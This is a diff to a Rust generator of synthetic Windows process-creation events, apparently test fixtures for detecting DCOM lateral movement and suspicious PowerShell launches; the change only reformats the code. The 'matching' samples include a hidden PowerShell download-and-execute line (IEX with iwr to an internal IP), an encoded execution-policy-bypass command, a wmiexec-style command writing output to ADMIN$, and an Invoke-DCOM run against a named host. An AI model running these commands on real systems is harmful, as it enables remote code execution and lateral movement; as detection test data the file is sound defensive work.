@@ -35,36 +35,134 @@ const USERS: &[&str] = &["jdoe", "asmith", "svc_backup", "SYSTEM", "mlopez", "tc
 type Process = (&'static str, &'static str, &'static str, &'static str);
 
 const ORDINARY: &[Process] = &[
-    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", r"C:\Program Files\Google\Chrome\Application\chrome.exe", r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --enable-auto-reload"#),
-    (r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe", r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
-    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", r"C:\Windows\System32\notepad.exe", r#""C:\Windows\system32\notepad.exe" C:\Users\jdoe\Desktop\todo.txt"#),
-    (r"C:\Windows\System32\cmd.exe", r#"cmd.exe /c "build.bat""#, r"C:\Program Files\Git\cmd\git.exe", r"git fetch --all --prune"),
-    (r"C:\Program Files\Microsoft VS Code\Code.exe", r#""C:\Program Files\Microsoft VS Code\Code.exe""#, r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
-    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Winmgmt", r"C:\Windows\System32\wbem\WmiApSrv.exe", r"C:\Windows\system32\wbem\WmiApSrv.exe"),
-    (r"C:\Windows\System32\taskhostw.exe", r"taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", r"C:\Windows\System32\sc.exe", r"sc.exe query wuauserv"),
-    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", r"C:\Windows\System32\cmd.exe", r#""C:\Windows\system32\cmd.exe""#),
+    (
+        r"C:\Windows\explorer.exe",
+        r"C:\Windows\Explorer.EXE",
+        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
+        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --enable-auto-reload"#,
+    ),
+    (
+        r"C:\Windows\System32\services.exe",
+        r"C:\Windows\system32\services.exe",
+        r"C:\Windows\System32\svchost.exe",
+        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
+    ),
+    (
+        r"C:\Windows\explorer.exe",
+        r"C:\Windows\Explorer.EXE",
+        r"C:\Windows\System32\notepad.exe",
+        r#""C:\Windows\system32\notepad.exe" C:\Users\jdoe\Desktop\todo.txt"#,
+    ),
+    (
+        r"C:\Windows\System32\cmd.exe",
+        r#"cmd.exe /c "build.bat""#,
+        r"C:\Program Files\Git\cmd\git.exe",
+        r"git fetch --all --prune",
+    ),
+    (
+        r"C:\Program Files\Microsoft VS Code\Code.exe",
+        r#""C:\Program Files\Microsoft VS Code\Code.exe""#,
+        r"C:\Windows\System32\conhost.exe",
+        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
+    ),
+    (
+        r"C:\Windows\System32\svchost.exe",
+        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Winmgmt",
+        r"C:\Windows\System32\wbem\WmiApSrv.exe",
+        r"C:\Windows\system32\wbem\WmiApSrv.exe",
+    ),
+    (
+        r"C:\Windows\System32\taskhostw.exe",
+        r"taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
+        r"C:\Windows\System32\sc.exe",
+        r"sc.exe query wuauserv",
+    ),
+    (
+        r"C:\Windows\explorer.exe",
+        r"C:\Windows\Explorer.EXE",
+        r"C:\Windows\System32\cmd.exe",
+        r#""C:\Windows\system32\cmd.exe""#,
+    ),
 ];
 const DCOM_LAUNCH: &[Process] = &[
-    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"),
-    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", r"C:\Windows\System32\RuntimeBroker.exe", r"C:\Windows\System32\RuntimeBroker.exe -Embedding"),
-    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", r"C:\Windows\System32\dllhost.exe", r"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"),
+    (
+        r"C:\Windows\System32\svchost.exe",
+        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
+        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
+        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
+    ),
+    (
+        r"C:\Windows\System32\svchost.exe",
+        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
+        r"C:\Windows\System32\RuntimeBroker.exe",
+        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
+    ),
+    (
+        r"C:\Windows\System32\svchost.exe",
+        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
+        r"C:\Windows\System32\dllhost.exe",
+        r"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
+    ),
 ];
 const EXEC_POLICY: &[Process] = &[
-    (r"C:\Windows\System32\cmd.exe", r#"cmd.exe /c "deploy.cmd""#, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\agent\update.ps1"),
-    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc SQBFAFgA"),
+    (
+        r"C:\Windows\System32\cmd.exe",
+        r#"cmd.exe /c "deploy.cmd""#,
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        r"powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\agent\update.ps1",
+    ),
+    (
+        r"C:\Windows\System32\svchost.exe",
+        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        r"powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc SQBFAFgA",
+    ),
 ];
-const BOTH_HALVES: &[Process] = &[
-    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"powershell.exe -ExecutionPolicy Restricted -Command Get-Date"),
-];
+const BOTH_HALVES: &[Process] = &[(
+    r"C:\Windows\System32\svchost.exe",
+    r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
+    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+    r"powershell.exe -ExecutionPolicy Restricted -Command Get-Date",
+)];
 const OFFICE_STARTED: &[Process] = &[
-    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /automation -Embedding"#),
-    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\jdoe\Documents\q3.docx""#),
+    (
+        r"C:\Windows\System32\svchost.exe",
+        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
+        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
+        r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /automation -Embedding"#,
+    ),
+    (
+        r"C:\Windows\explorer.exe",
+        r"C:\Windows\Explorer.EXE",
+        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
+        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\jdoe\Documents\q3.docx""#,
+    ),
 ];
 const MATCHING: &[Process] = &[
-    (r"C:\Windows\System32\mmc.exe", r"C:\Windows\system32\mmc.exe -Embedding", r"C:\Windows\System32\cmd.exe", r#""C:\Windows\System32\cmd.exe" /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1556656511.61 2>&1"#),
-    (r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", r#""EXCEL.EXE" /automation -Embedding"#, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"powershell.exe -nop -w hidden -c IEX(iwr http://10.0.0.5/a)"),
-    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", r"C:\Windows\System32\dcomcnfg.exe", r#""C:\Windows\system32\dcomcnfg.exe""#),
-    (r"C:\Windows\System32\cmd.exe", r"cmd.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"powershell.exe -ExecutionPolicy Bypass -File Invoke-DCOM.ps1 -ComputerName ws-fin-0042"),
+    (
+        r"C:\Windows\System32\mmc.exe",
+        r"C:\Windows\system32\mmc.exe -Embedding",
+        r"C:\Windows\System32\cmd.exe",
+        r#""C:\Windows\System32\cmd.exe" /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1556656511.61 2>&1"#,
+    ),
+    (
+        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
+        r#""EXCEL.EXE" /automation -Embedding"#,
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        r"powershell.exe -nop -w hidden -c IEX(iwr http://10.0.0.5/a)",
+    ),
+    (
+        r"C:\Windows\explorer.exe",
+        r"C:\Windows\Explorer.EXE",
+        r"C:\Windows\System32\dcomcnfg.exe",
+        r#""C:\Windows\system32\dcomcnfg.exe""#,
+    ),
+    (
+        r"C:\Windows\System32\cmd.exe",
+        r"cmd.exe",
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        r"powershell.exe -ExecutionPolicy Bypass -File Invoke-DCOM.ps1 -ComputerName ws-fin-0042",
+    ),
 ];
 
 fn json_str(s: &str) -> String {
@@ -106,13 +204,37 @@ fn event(rng: &mut Rng, seq: u64, (pexe, pcl, exe, cl): Process) -> String {
             r#""pid":{pid},"working_directory":"C:\\Windows\\system32\\"}},"#,
             r#""user":{{"domain":"CORP","id":"S-1-5-21-1004336348-1177238915-682003330-{uid}","name":"{user}"}}}}"#
         ),
-        min = (seq / 60) % 60, sec = sec, ms = ms, agent = rng.hex(12), id = rng.hex(24), seq = seq,
-        host = host, hostid = rng.hex(12), ip1 = rng.below(255), ip2 = rng.below(255),
-        anc1 = rng.hex(64), anc2 = rng.hex(64), args = args.join(","), nargs = args.len(), cl = json_str(cl),
-        eid = rng.hex(64), exe = json_str(exe), md5 = rng.hex(32), sha1 = rng.hex(40), sha256 = rng.hex(64),
-        name = json_str(basename(exe)), pargs = pargs.join(","), npargs = pargs.len(), pcl = json_str(pcl),
-        peid = rng.hex(64), pexe = json_str(pexe), pname = json_str(basename(pexe)), ppid = ppid, pid = pid,
-        uid = 1000 + rng.below(9000), user = user,
+        min = (seq / 60) % 60,
+        sec = sec,
+        ms = ms,
+        agent = rng.hex(12),
+        id = rng.hex(24),
+        seq = seq,
+        host = host,
+        hostid = rng.hex(12),
+        ip1 = rng.below(255),
+        ip2 = rng.below(255),
+        anc1 = rng.hex(64),
+        anc2 = rng.hex(64),
+        args = args.join(","),
+        nargs = args.len(),
+        cl = json_str(cl),
+        eid = rng.hex(64),
+        exe = json_str(exe),
+        md5 = rng.hex(32),
+        sha1 = rng.hex(40),
+        sha256 = rng.hex(64),
+        name = json_str(basename(exe)),
+        pargs = pargs.join(","),
+        npargs = pargs.len(),
+        pcl = json_str(pcl),
+        peid = rng.hex(64),
+        pexe = json_str(pexe),
+        pname = json_str(basename(pexe)),
+        ppid = ppid,
+        pid = pid,
+        uid = 1000 + rng.below(9000),
+        user = user,
     )
 }
 
